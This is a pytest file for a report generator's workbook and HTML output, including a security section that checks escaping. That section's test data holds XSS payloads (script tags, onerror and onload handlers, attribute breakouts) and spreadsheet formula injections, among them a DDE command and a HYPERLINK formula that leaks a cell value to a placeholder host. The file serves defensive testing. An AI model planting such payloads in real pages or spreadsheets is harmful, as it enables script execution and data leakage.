"""The committee report: the workbook, the HTML page's content, and the page
in a real browser (headless Chromium from a file:// URL: every row shown,
sorting by a header, filtering, a screenshot)."""
from __future__ import annotations

import html
import json
import re
import subprocess
import zipfile
from pathlib import Path

import lxml.html
import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from formkit.cli import main
from tests.conftest import sample_dirs

ROOT = Path(__file__).resolve().parent.parent
CHROMIUM_FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                  "--disable-background-networking", "--disable-component-update", "--disable-sync"]


def run(*args: str, stdin: str | None = None) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args), input=stdin)
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture(scope="module")
def batch(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[dict[str, object]]]:
    """The samples' parse output plus one unreadable file, reported once."""
    where = tmp_path_factory.mktemp("report")
    broken = where / "ส่งช้า & <เสีย>.docx"          # Thai, and characters HTML must escape
    broken.write_bytes(b"not a zip")
    code, parsed, _ = run("parse", *map(str, sample_dirs()), str(broken))
    assert code == 1
    results = where / "parsed.jsonl"
    results.write_text(parsed, "utf-8")
    code, out, err = run("report", str(results), "-o", str(where / "out"))
    assert code == 1 and "1 not scored" in err
    assert out.split() == [str(where / "out" / "report.xlsx"), str(where / "out" / "report.html")]
    return where / "out", [json.loads(line) for line in parsed.splitlines()]


def test_workbook_has_one_row_per_file(batch: tuple[Path, list[dict[str, object]]]) -> None:
    out, results = batch
    book = load_workbook(out / "report.xlsx")
    rows = list(book["Results"].iter_rows(values_only=True))
    assert rows[0][:7] == ("File", "Office", "Form", "Self-assessed", "Scored level", "Basis", "Agreement")
    assert [r[0] for r in rows[1:]] == [r["file"] for r in results]
    three = next(r for r in rows if str(r[0]).endswith("esao-3-1/three-works.docx"))
    assert three[3:7] == (3, 2, "rubric", "differs") and "2 of 4 photos" in three[8]
    failed = list(book["Failed"].iter_rows(values_only=True))
    assert len(failed) == 2 and failed[1][0].endswith("<เสีย>.docx") and "[not-docx]" in failed[1][1]
    levels = list(book["Levels"].iter_rows(values_only=True))
    assert levels[0] == ("Level", "esao-1-2 scored", "esao-3-1 scored", "esao-1-2 self-assessed", "esao-3-1 self-assessed")
    assert sum(r[2] for r in levels[1:]) == 6 and book["Levels"]._charts


def test_page_is_self_contained_and_lists_every_file(batch: tuple[Path, list[dict[str, object]]]) -> None:
    out, results = batch
    page = (out / "report.html").read_text("utf-8")
    assert '<meta charset="utf-8">' in page
    assert 'font-family: "TH Sarabun New", "TH SarabunPSK", "Laksaman", sans-serif' in page
    assert not re.search(r"<link|\b(src|href)\s*=|@import|url\(", page), "the page must need nothing else"
    for result in results:
        assert html.escape(str(result["file"])) in page
    assert "ส่งช้า &amp; &lt;เสีย&gt;.docx" in page and "<เสีย>" not in page
    assert page.count('<figure class="chart"') == 2 and "esao-1-2: 15 file(s) (15 auto proposal(s))" in page
    assert re.search(r'<table id="failed">.*\[not-docx\]', page, re.DOTALL)


def test_report_takes_score_output_and_word_files(tmp_path: Path) -> None:
    code, scored, _ = run("score", str(ROOT / "samples" / "esao-1-2"), "--format", "jsonl")
    assert code == 0
    (tmp_path / "scores.jsonl").write_text(scored, "utf-8")
    assert run("report", str(tmp_path / "scores.jsonl"), "-o", str(tmp_path / "a"))[0] == 0
    assert run("report", str(ROOT / "samples" / "esao-1-2"), "-o", str(tmp_path / "b"))[0] == 0
    rows = [list(load_workbook(tmp_path / d / "report.xlsx")["Results"].iter_rows(values_only=True)) for d in "ab"]
    assert rows[0] == rows[1] and len(rows[0]) == 16
    multiple = next(r for r in rows[0] if str(r[0]).endswith("multiple-levels.docx"))
    assert "[multiple-levels-ticked]" in multiple[7] and multiple[6] == "nothing ticked"


# -- in the browser -----------------------------------------------------------

def _chromium(chromium: str, profile: Path, *args: str) -> subprocess.Popen[bytes]:
    """One headless run with its own new profile (runs in parallel)."""
    return subprocess.Popen([chromium, *CHROMIUM_FLAGS, f"--user-data-dir={profile}", *args],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)


def _rows(dom: bytes) -> list[tuple[str, str, bool]]:
    """(file, level, shown) per table row, in the order the browser left them."""
    tree = lxml.html.fromstring(dom)
    return [(tr.xpath('string(td[@data-key="file"]/@data-sort)'), tr.xpath('string(td[@data-key="level"])').strip(),
             tr.get("hidden") is None) for tr in tree.xpath('//table[@id="results"]/tbody/tr')]


def test_page_in_headless_chromium(chromium: str, batch: tuple[Path, list[dict[str, object]]], tmp_path: Path) -> None:
    out, results = batch
    url = (out / "report.html").as_uri()
    shot = tmp_path / "report.png"
    jobs = {
        "plain": _chromium(chromium, tmp_path / "plain", "--dump-dom", url),
        "up": _chromium(chromium, tmp_path / "up", "--dump-dom", url + "?sort=level"),
        "down": _chromium(chromium, tmp_path / "down", "--dump-dom", url + "?sort=-level"),
        "filtered": _chromium(chromium, tmp_path / "filtered", "--dump-dom", url + "?q=three-works"),
        "shot": _chromium(chromium, tmp_path / "shot", "--hide-scrollbars", "--window-size=1400,1000", f"--screenshot={shot}", url),
    }
    dom = {name: job.communicate(timeout=90)[0] for name, job in jobs.items()}
    assert all(job.returncode == 0 for job in jobs.values())
    assert b'data-ready="true"' in dom["plain"], "the page's script did not run"

    plain = _rows(dom["plain"])
    assert [f for f, _, shown in plain if shown] == [r["file"] for r in results]   # every row shown
    assert b"22 / 22" in dom["plain"]

    up = _rows(dom["up"])
    levels = [level for _, level, _ in up]
    scored = [int(v) for v in levels if v]
    assert scored == sorted(scored) and levels[-1] == "" and levels.count("") == 1   # not scored last
    assert re.search(rb'data-key="level"[^>]*aria-sort="ascending"', dom["up"])
    down = [int(v) for _, v, _ in _rows(dom["down"]) if v]
    assert down == sorted(scored, reverse=True) and down[0] == 5
    assert [f for f, _, _ in up] != [f for f, _, _ in plain]                       # the rows really moved

    filtered = [f for f, _, shown in _rows(dom["filtered"]) if shown]
    assert filtered == [str(ROOT / "samples" / "esao-3-1" / "three-works.docx")]

    png = shot.read_bytes()
    assert png[:8] == b"\x89PNG\r\n\x1a\n" and len(png) > 20_000
    assert int.from_bytes(png[16:20], "big") == 1400


# -- hostile results ----------------------------------------------------------------------

RUN = "document.body.appendChild(document.createElement('pwn'+'ed'))"  # leaves <pwned> in the DOM if it runs
SCRIPT = f"<script>{RUN}</script>"
HANDLER = f'<img src=x onerror="{RUN}">'
BREAKOUT = f'" autofocus onfocus="{RUN}" x="'
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
GOOD = {"file": "in/a.docx", "form": "esao-3-1", "office": "สพป. ก", "self_assessed": 2, "level": 2,
        "basis": "rubric", "reasons": ["2 of 2 work(s) count"], "agrees": True}
HOSTILE = [
    {**GOOD, "file": f"in/{HANDLER}.docx", "office": f"</title>{SCRIPT}", "form": f'</svg><svg onload="{RUN}">',
     "reasons": [SCRIPT, f"missing evidence: {BREAKOUT}", f"parse warning: ' onmouseover='{RUN}"]},
    {**GOOD, "file": f"javascript:{RUN}", "office": FORMULA, "form": "=cmd|' /C calc'!A0", "self_assessed": 3,
     "agrees": False, "reasons": ["+SUM(A1)", "@cmd", "-2+3", "#N/A"]},
    {**GOOD, "file": "in/{{rows}}.docx", "office": "{{title}}"},
    {**GOOD, "file": "in/level.docx", "level": SCRIPT},
    {**GOOD, "file": "in/agrees.docx", "agrees": HANDLER},
    {**GOOD, "file": "in/office.docx", "office": {}},
    {**GOOD, "file": "in/form.docx", "form": []},
]
TITLE = f"</title>{SCRIPT}{BREAKOUT}"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A report of score results with markup, script and formulas in every
    text field, and wrong types in the typed ones."""
    where = tmp_path_factory.mktemp("hostile")
    scores = where / "scores.jsonl"
    scores.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in HOSTILE), "utf-8")
    code, _, err = run("report", str(scores), "-o", str(where / "out"), "--title", TITLE)
    assert code == 1 and "4 not scored" in err and "Traceback" not in err
    return where / "out"


def test_hostile_text_is_escaped_everywhere(hostile: Path) -> None:
    """Read as HTML: the page's own script is the only one, no element has an
    event handler, the only SVGs are the charts, and every hostile value
    is text, exactly as given (titles, cells, file names, charts, menu)."""
    page = (hostile / "report.html").read_text("utf-8")
    tree = lxml.html.fromstring(page)
    assert len(tree.xpath("//script")) == 1 and "pwn" not in tree.xpath("string(//script)")
    assert not [(el.tag, name) for el in tree.iter() if isinstance(el.tag, str) for name in el.attrib
                if name.lower().startswith("on")]
    assert len(tree.xpath("//*[local-name()='svg']")) == len(tree.xpath('//figure[@class="chart"]')) == 3  # 3 forms
    assert tree.xpath("string(//title)") == TITLE and tree.xpath("string(//h1)") == TITLE
    rows = tree.xpath('//table[@id="results"]/tbody/tr')
    first, second = rows[0], rows[1]
    assert first.xpath('string(td[@data-key="office"])') == HOSTILE[0]["office"]
    assert first.xpath('string(td[@data-key="file"]/@data-sort)') == HOSTILE[0]["file"]
    assert first.xpath('string(td[@data-key="file"]//span/@title)') == HOSTILE[0]["file"]
    assert first.get("data-form") == HOSTILE[0]["form"]
    assert [li.text for li in first.xpath('td[@data-key="reasons"]//li')] == [SCRIPT]
    assert [li.text for li in first.xpath('td[@data-key="missing"]//li')] == [BREAKOUT]
    assert second.xpath('string(td[@data-key="office"])') == FORMULA
    assert rows[2].xpath('string(td[@data-key="office"])') == "{{title}}"
    assert HOSTILE[0]["form"] in tree.xpath('//select[@id="form-filter"]/option/@value')
    assert tree.xpath('string(//figure[@data-form="%s"]/@data-form)' % "=cmd|' /C calc'!A0") == "=cmd|' /C calc'!A0"
    failed = [tr.xpath("string(td[1])") for tr in tree.xpath('//table[@id="failed"]/tbody/tr')]
    assert failed == ["in/level.docx", "in/agrees.docx", "in/office.docx", "in/form.docx"]
    errors = tree.xpath('//table[@id="failed"]//td[@class="error"]/text()')
    assert "field 'level': expected a level 1..5 or null" in errors[0] and SCRIPT[:30] in errors[0]
    assert "field 'office': expected text or null, got an object" in errors[2]


def test_the_page_allows_only_its_own_script(hostile: Path) -> None:
    """Content-Security-Policy: nothing fetched, and only the page's script,
    by its SHA-256, may run."""
    import base64
    import hashlib

    tree = lxml.html.fromstring((hostile / "report.html").read_bytes())
    policy = tree.xpath('string(//meta[@http-equiv="Content-Security-Policy"]/@content)')
    digest = base64.b64encode(hashlib.sha256(tree.xpath("string(//script)").encode("utf-8")).digest()).decode()
    assert policy.startswith("default-src 'none';") and f"script-src 'sha256-{digest}';" in policy
    assert "unsafe-inline'; script" in policy and policy.count("unsafe-inline") == 1  # for the <style> only


def test_workbook_cells_are_text_never_formulas(hostile: Path) -> None:
    """Every text cell is a string cell holding the value as given: a file
    name or office starting with = is no formula, #N/A no error value."""
    book = load_workbook(hostile / "report.xlsx")
    texts = [c for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert texts and {c.data_type for c in texts} == {"s"}
    results = list(book["Results"].iter_rows(values_only=True))
    assert results[2][:3] == (HOSTILE[1]["file"], FORMULA, "=cmd|' /C calc'!A0")
    assert results[2][9] == "+SUM(A1)\n@cmd\n-2+3\n#N/A" and results[2][3:5] == (3, 2)
    assert "=cmd|' /C calc'!A0 scored" in next(book["Levels"].iter_rows(values_only=True))
    with zipfile.ZipFile(hostile / "report.xlsx") as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 3 and not any(re.search(rb"<f[ >]", xml) for xml in sheets)


def test_hostile_page_in_headless_chromium(chromium: str, hostile: Path, tmp_path: Path) -> None:
    """No hostile value runs (the DOM has no <pwned>), the page's script
    still works with a hostile ?sort= (the filter applies, rows stay put) and
    sorts by a real column next to a hostile ?form=. Two controls show that
    the check could fail: the same payloads in a plain page do run, and the
    policy alone stops payloads inserted into the report unescaped."""
    url = (hostile / "report.html").as_uri()
    control = tmp_path / "control.html"
    control.write_text(f"<!DOCTYPE html><html><body>{HANDLER}{SCRIPT}</body></html>", "utf-8")
    bypass = tmp_path / "bypass.html"   # the report with the payloads pasted in, escaping bypassed
    page = (hostile / "report.html").read_text("utf-8")
    bypass.write_text(page.replace("<h1>", f"{SCRIPT}{HANDLER}<h1>", 1), "utf-8")
    jobs = {
        "plain": _chromium(chromium, tmp_path / "plain", "--dump-dom", url),
        "bad-sort": _chromium(chromium, tmp_path / "bad-sort", "--dump-dom", url + '?sort=x%22%5D&q=docx'),
        "bad-form": _chromium(chromium, tmp_path / "bad-form", "--dump-dom", url + "?sort=-level&form=%22%5D%3Cb%3E"),
        "control": _chromium(chromium, tmp_path / "control", "--dump-dom", control.as_uri()),
        "bypass": _chromium(chromium, tmp_path / "bypass", "--dump-dom", bypass.as_uri()),
    }
    dom = {name: job.communicate(timeout=90)[0] for name, job in jobs.items()}
    assert all(job.returncode == 0 for job in jobs.values())
    assert dom["control"].count(b"<pwned>") == 2, "the payloads must run in a plain page"
    for name in ("plain", "bad-sort", "bad-form", "bypass"):
        assert b"<pwned>" not in dom[name], name
        assert b'data-ready="true"' in dom[name], f"{name}: the page's script did not run to its end"

    plain = _rows(dom["plain"])
    assert [f for f, _, shown in plain] == [r["file"] for r in HOSTILE]
    bad_sort = _rows(dom["bad-sort"])
    assert [f for f, _, _ in bad_sort] == [f for f, _, _ in plain]                      # not sorted
    assert [f for f, _, shown in bad_sort if shown] == [r["file"] for r in HOSTILE if "docx" in r["file"]]
    assert not re.search(rb"<th[^>]*aria-sort=", dom["bad-sort"])
    bad_form = _rows(dom["bad-form"])
    assert all(shown for _, _, shown in bad_form)                                        # the form was ignored
    assert [level for _, level, _ in bad_form][:3] == ["2", "2", "2"] and bad_form[-1][1] == ""
    assert re.search(rb'data-key="level"[^>]*aria-sort="descending"', dom["bad-form"])


def test_characters_xml_cannot_hold_are_left_out_of_the_workbook(tmp_path: Path) -> None:
    """U+FFFF, U+FFFE and C0 controls in an office or file name (JSON can
    carry them) are dropped from report.xlsx, which XML could not hold."""
    scores = tmp_path / "scores.jsonl"
    odd = {**GOOD, "file": "in/a\u0007b.docx", "office": "สพป.\uffff ก\ufffe\u000b"}
    scores.write_text(json.dumps(odd) + "\n", "utf-8")
    code, _, err = run("report", str(scores), "-o", str(tmp_path / "out"))
    assert code == 0 and "Traceback" not in err, err
    row = list(load_workbook(tmp_path / "out" / "report.xlsx")["Results"].iter_rows(values_only=True))[1]
    assert row[:2] == ("in/ab.docx", "สพป. ก")
